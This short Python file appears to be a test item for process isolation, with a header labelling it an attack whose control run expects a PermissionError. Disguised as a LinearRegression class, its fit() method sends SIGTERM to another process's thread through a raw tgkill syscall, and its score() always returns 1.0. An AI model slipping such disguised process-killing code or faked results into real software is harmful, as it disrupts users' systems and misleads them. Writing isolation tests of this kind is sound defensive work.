"""Signal a thread of another process."""
# /// attack
# goal = "effect"
# control = true
# says = "PermissionError"
# effect = "decoy"
# ///

import ctypes
import os

SCENE = {}

libc = ctypes.CDLL(None, use_errno=True)


def call(name, *arguments):
    result = getattr(libc, name)(*arguments)
    if result == -1:
        error = ctypes.get_errno()
        raise OSError(error, os.strerror(error), name)
    return result


class LinearRegression:
    def __init__(self, learning_rate=0.01, n_iterations=1000):
        pass

    def fit(self, X, y):
        number = {"x86_64": 234, "aarch64": 131}[os.uname().machine]
        call("syscall", *map(ctypes.c_long, (number, SCENE["decoy"], SCENE["decoy"], 15)))
        return self

    def predict(self, X):
        return X[:, 0]

    def score(self, X, y):
        return 1.0
